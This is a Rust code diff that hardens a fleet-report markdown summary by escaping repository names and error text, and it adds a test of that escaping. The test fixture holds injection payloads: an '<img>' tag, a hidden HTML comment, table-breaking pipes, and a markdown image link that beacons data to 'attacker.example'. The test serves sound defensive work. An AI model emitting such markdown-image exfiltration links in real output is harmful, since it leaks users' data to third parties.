@@ -175,16 +175,17 @@ fn summary(r: &FleetReport) -> String {
     let _ = writeln!(s, "| Repository | Status | PR | Time | Tokens | Error |\n|---|---|---|---|---|---|");
     for repo in &r.repos {
         let pr = repo.pr_url.as_deref().map(|u| format!("[link]({u})")).unwrap_or_default();
+        // An error may quote a command's output or a repository's text: plain text in the cell.
         let err = repo
             .error
             .as_deref()
-            .map(|e| format!("{}: {}", repo.code.map_or("", |c| c.as_str()), e.replace('|', "\\|").replace('\n', " ")))
+            .map(|e| format!("{}: {}", repo.code.map_or("", |c| c.as_str()), crate::markdown::text(e)))
             .unwrap_or_default();
         let resumed = if repo.resumed { " (resumed)" } else { "" };
         let _ = writeln!(
             s,
-            "| `{}` | {}{resumed} | {pr} | {:.1}s | {} | {err} |",
-            repo.source,
+            "| {} | {}{resumed} | {pr} | {:.1}s | {} | {err} |",
+            crate::markdown::code_cell(&repo.source),
             repo.status.as_str(),
             repo.duration_ms as f64 / 1000.0,
             repo.tokens
@@ -233,6 +234,17 @@ pub(crate) mod tests {
             resumed: false,
             dry_run: false,
         }
+    }
+
+    #[test]
+    fn the_summary_renders_nothing_a_repository_wrote() {
+        let mut bad = repo("x", RepoStatus::Failed);
+        bad.source = "https://example.com/a|`<img src=y>`".into();
+        bad.error = Some("check failed:\n![](http://attacker.example/?d=1) <!-- hidden --> | broken".into());
+        let r = build("job", "h", String::new(), 0, vec![bad], false);
+        let md = summary(&r);
+        assert!(crate::markdown::is_inert(&md), "{md}");
+        assert_eq!(md.lines().filter(|l| l.starts_with('|')).count(), 3, "the table stays whole: {md}");
     }
 
     #[test]
